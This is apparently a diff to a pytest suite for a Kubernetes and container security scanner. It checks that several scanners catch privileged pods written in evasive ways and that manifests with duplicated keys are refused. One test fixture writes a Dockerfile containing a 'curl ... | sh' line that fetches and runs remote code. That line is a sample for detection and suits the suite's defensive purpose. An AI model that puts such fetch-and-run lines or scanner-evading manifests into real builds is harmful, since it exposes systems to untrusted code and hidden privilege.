@@ -4,15 +4,16 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Iterable
 from pathlib import Path
 from typing import Any
 
 import jsonschema
 import pytest
-from evasions import EVASIONS, POD, REFUSED
+from evasions import EVASIONS, REFUSED, SEEN
 from oci_image import debian, python_package, write_image
 from trivy_database import library_advisory, os_advisory, vulnerability, write_database
 
@@ -62,47 +63,39 @@ def aegis(tmp_path: Path, tool: FindTool) -> Callable[..., subprocess.CompletedP
 Run = Callable[..., subprocess.CompletedProcess[str]]
 
 
-def written(folder: Path, names: Mapping[str, bytes]) -> dict[str, str]:
-    """Each variant in a file of its own, its pod renamed so that none hides another; pods by the variants' names."""
+def written(folder: Path, names: Iterable[str]) -> None:
+    """Each variant in a file of its own."""
     folder.mkdir()
-    pods = {}
-    for number, (name, data) in enumerate(names.items()):
-        coding = "utf-16" if name == "UTF-16" else "utf-8"
-        pod = f"pod-{number:02d}"
-        text = data.decode(coding).replace("name: web", f"name: {pod}").replace('"name": "web"', f'"name": "{pod}"')
-        (folder / f"{number:02d}.yaml").write_bytes(text.encode(coding))
-        pods[name] = f"Pod/{pod}"
-    return pods
+    for name in names:
+        (folder / f"{name}.yaml").write_bytes(EVASIONS[name])
 
 
 def test_every_scanner_catches_every_way_of_writing_a_privileged_pod(aegis: Run, tmp_path: Path) -> None:
-    pods = written(tmp_path / "in", {name: data for name, data in EVASIONS.items() if name not in REFUSED})
-    for file in (tmp_path / "in").iterdir():  # one harmless object in several files is one object in several files
-        file.write_bytes(file.read_bytes().replace(b"name: first", b"name: first-" + file.stem.encode()))
+    written(tmp_path / "in", SEEN)
     done = aegis("manifest", "in", "-o", "json", cwd=tmp_path)
     assert done.returncode == 1, done.stderr
     report = json.loads(done.stdout)
     rules = {"podsecurity": "pss-baseline-privileged", "semgrep": "k8s-privileged", "trivy": "KSV-0017"}
     for scanner, rule in rules.items():
         caught = {one["subject"] for one in report["findings"] if (one["source"], one["rule_id"]) == (scanner, rule)}
-        assert caught == set(pods.values()), scanner
+        assert caught == {f"Pod/{name}" for name in SEEN}, scanner
     looked = {one["scanner"]: one["looked"] for one in report["scanners"]}
     assert {name: looked[name] for name in rules} == dict.fromkeys(rules, True)
 
 
 @pytest.mark.parametrize("name", sorted(REFUSED))
 def test_what_two_readers_read_in_two_ways_is_refused(name: str, aegis: Run, tmp_path: Path) -> None:
-    written(tmp_path / "in", {name: EVASIONS[name]})
+    written(tmp_path / "in", [name])
     done = aegis("manifest", "in", cwd=tmp_path)
     assert (done.returncode, done.stdout) == (2, "")
-    assert "in/00.yaml:11:7: the key privileged stands twice" in done.stderr
+    assert re.match(rf"aegis: in/{name}\.yaml(:\d+)*: ", done.stderr)
 
 
 def test_a_mixed_folder(aegis: Run, tmp_path: Path) -> None:
     folder = tmp_path / "in"
     (folder / "chart" / "templates").mkdir(parents=True)
     (folder / "app").mkdir()
-    (folder / "deploy.yaml").write_text(POD, encoding="utf-8")
+    (folder / "deploy.yaml").write_bytes(EVASIONS["plain"])
     (folder / "chart" / "values.yaml").write_text("replicas: 2\n", encoding="utf-8")
     (folder / "app" / "Dockerfile").write_text("FROM debian:12\nRUN curl http://example.com/x | sh\n", encoding="utf-8")
     (folder / "app" / "main.py").write_text("print('hello')\n", encoding="utf-8")
